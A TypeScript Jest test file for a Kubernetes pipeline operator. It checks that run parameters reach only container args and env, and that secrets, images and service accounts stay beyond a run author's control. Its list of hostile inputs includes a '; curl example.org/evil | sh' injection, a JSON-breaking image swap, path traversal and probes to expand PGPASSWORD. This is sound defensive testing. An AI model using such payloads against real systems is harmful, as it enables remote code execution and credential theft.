import { apiVersion } from '@gho-platform/api';
import type { PipelineSpec } from '@gho-platform/api';
import type { KubeObject, Resource } from '@gho-platform/kube';
import { jobs, resourcePath } from '@gho-platform/kube';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { pipelines, runs, schedules, World } from '../operator/world.ts';

const image = 'example.org/stage:1';
const reference = '$(parameters.x)';

/** A Pipeline that uses everything which a run must not choose, and lets it choose `x`. */
const spec: PipelineSpec = {
  parameters: [{ name: 'x' }],
  stages: [
    {
      name: 'load',
      image,
      command: ['load', reference],
      args: ['--date', reference],
      env: [
        { name: 'DATE', value: reference },
        { name: 'PGPASSWORD', valueFrom: { secretKeyRef: { name: 'warehouse', key: 'password' } } },
      ],
      envFrom: [{ secretRef: { name: 'objects' } }],
      imagePullSecrets: [{ name: 'registry' }],
      serviceAccountName: 'loader',
      retry: { limit: 0 },
    },
  ],
};

interface Container {
  args: string[];
  env: { name: string; value?: string }[];
}

interface JobSpec {
  template: { spec: { containers: [Container] } };
}

describe('what the author of a run reaches', () => {
  let world: World;
  let namespace: string;

  beforeAll(async () => {
    world = await World.start('flt-reach');
    namespace = await world.namespace(spec);
    await world.plane.kubectl(['create', 'serviceaccount', 'loader', '-n', namespace]);
    await world.operator(namespace);
  });

  afterAll(async () => {
    await world.stop();
  });

  /** The Job of a run, without what differs from run to run anyway. */
  async function jobOf(name: string, x: string): Promise<JobSpec> {
    await world.createRun(namespace, name, { parameters: [{ name: 'x', value: x }] });
    const run = await world.ended(namespace, name);
    expect(run.status?.conditions?.[0]).toMatchObject({ type: 'Succeeded', status: 'True' });
    const [job] = await world.jobsOf(namespace, name);
    const text = JSON.stringify((job as KubeObject & { spec: unknown }).spec)
      .replaceAll(run.metadata.uid, '<uid>')
      .replaceAll(job?.metadata?.uid ?? '', '<job>')
      .replaceAll(name, '<run>');
    return JSON.parse(text) as JobSpec;
  }

  /** The Job without the two places that are made for the parameter. */
  function rest(job: JobSpec): JobSpec {
    const copy = structuredClone(job);
    const [container] = copy.template.spec.containers;
    container.args = [];
    container.env = container.env.filter(({ name }) => name !== 'DATE');
    return copy;
  }

  const values = [
    '$(PGPASSWORD)',
    '$$(PGPASSWORD)',
    '$(parameters.x)',
    '$(stages.load.outputs.y)',
    '","image":"example.org/evil:1',
    '../../../kube-system/pods',
    '; curl example.org/evil | sh',
    '\u202E💥\t\n',
    'x'.repeat(1024),
  ];

  it('is the text of args and env, letter by letter, and nothing else of a Job', async () => {
    const harmless = await jobOf('harmless', '2026-06-01');
    for (const [number, value] of values.entries()) {
      const job = await jobOf(`hostile-${number}`, value);
      const [{ args, env }] = job.template.spec.containers;
      // The kubelet makes one dollar of two, and expands nothing then.
      const literal = value.replaceAll('$', '$$$$');
      expect(args).toEqual(['--date', literal]);
      expect(env.find(({ name }) => name === 'DATE')?.value).toBe(literal);
      expect(rest(job)).toEqual(rest(harmless));
    }
    const [{ command }] = harmless.template.spec.containers as unknown as [{ command: string[] }];
    expect(command).toEqual(['load', '$$(parameters.x)']);
  });

  async function answerTo(resource: Resource, name: string, given: unknown): Promise<string> {
    const { status, body } = await world.transport.send({
      method: 'POST',
      path: resourcePath(resource, { namespace }),
      query: { fieldValidation: 'Strict' },
      body: { apiVersion, kind: resource.kind, metadata: { name }, spec: given },
    });
    return status === 201 ? 'accepted' : ((body as { message?: string }).message ?? '');
  }

  const stage = { name: 'load', image };
  const substituted: Record<string, [object, string]> = {
    image: [{ image: `example.org/${reference}` }, 'image must not contain a substitution'],
    'the account': [{ serviceAccountName: reference }, 'serviceAccountName'],
    'the name of a Secret in env': [
      { env: [{ name: 'A', valueFrom: { secretKeyRef: { name: reference, key: 'k' } } }] },
      'secretKeyRef.name',
    ],
    'the key of a Secret': [
      { env: [{ name: 'A', valueFrom: { secretKeyRef: { name: 's', key: reference } } }] },
      'secretKeyRef.key',
    ],
    'the name of a ConfigMap in env': [
      { env: [{ name: 'A', valueFrom: { configMapKeyRef: { name: reference, key: 'k' } } }] },
      'configMapKeyRef.name',
    ],
    'the name of a variable': [{ env: [{ name: reference, value: 'x' }] }, 'env[0].name'],
    'the name of a Secret in envFrom': [
      { envFrom: [{ secretRef: { name: reference } }] },
      'secretRef.name',
    ],
    'the name of a Secret for images': [
      { imagePullSecrets: [{ name: reference }] },
      'imagePullSecrets[0].name',
    ],
    'the name of the stage': [{ name: reference }, 'name'],
    resources: [{ resources: { limits: { memory: reference } } }, 'memory'],
  };
  it.each(Object.keys(substituted))('cannot be put into %s by a Pipeline', async (name) => {
    const [fields, message] = substituted[name] ?? [{}, ''];
    const answer = await answerTo(pipelines, 'refused', { stages: [{ ...stage, ...fields }] });
    expect(answer).toContain(message);
  });

  const fields = [
    ...['image', 'command', 'args', 'env', 'serviceAccountName', 'namespace', 'podSpecPatch'],
    ...['template', 'stages', 'volumes', 'nodeSelector', 'imagePullSecrets', 'securityContext'],
  ];
  it.each(fields)('has no field %s in a run or a schedule', async (field) => {
    const run = { pipelineRef: { name: 'demo' }, [field]: 'x' };
    const schedule = { ...run, cron: ['0 0 * * *'], timeZone: 'UTC' };
    expect(await answerTo(runs, 'refused', run)).toContain(`unknown field "spec.${field}"`);
    expect(await answerTo(schedules, 'refused', schedule)).toContain(
      `unknown field "spec.${field}"`,
    );
  });

  it('ends at its namespace', async () => {
    const other = await world.namespace();
    const run = { pipelineRef: { name: 'demo', namespace: other } };
    expect(await answerTo(runs, 'refused', run)).toContain(
      'unknown field "spec.pipelineRef.namespace"',
    );
    await world.createRun(namespace, 'path', { pipelineRef: { name: 'demo.other' } });
    await world.until({ namespace, name: 'path' }, ({ status }) => status?.waiting !== undefined);
    expect(await world.api.list(jobs, { namespace: other })).toEqual([]);
  });
});
